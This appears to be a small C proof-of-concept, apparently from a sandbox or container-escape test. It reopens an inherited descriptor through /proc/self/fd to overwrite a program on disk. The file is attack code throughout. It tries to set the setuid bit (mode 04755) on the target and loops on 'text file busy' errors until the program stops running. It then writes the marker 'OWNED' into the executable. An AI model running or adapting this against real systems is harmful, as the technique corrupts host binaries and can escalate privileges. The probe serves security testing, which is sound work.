/* overwrite FD [TRIES]: an O_PATH descriptor of a program is opened again for writing, as soon as nobody
 * runs that program; its mode is tried at once. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char path[64], target[256] = "";
    int fd = -1;
    snprintf(path, sizeof path, "/proc/self/fd/%s", argc > 1 ? argv[1] : "9");
    readlink(path, target, sizeof target - 1);
    printf("target %s\n", target);
    printf("chmod %s\n", chmod(path, 04755) < 0 ? strerrorname_np(errno) : "ok");
    printf("first %s\n", (fd = open(path, O_WRONLY)) < 0 ? strerrorname_np(errno) : "ok");
    fflush(stdout);
    for (int i = 0; fd < 0 && errno == ETXTBSY && i < (argc > 2 ? atoi(argv[2]) : 400); i++) {
        usleep(10000);
        fd = open(path, O_WRONLY);
    }
    printf("write %s\n", fd < 0 || write(fd, "OWNED", 5) != 5 ? strerrorname_np(errno) : "ok");
    return 0;
}
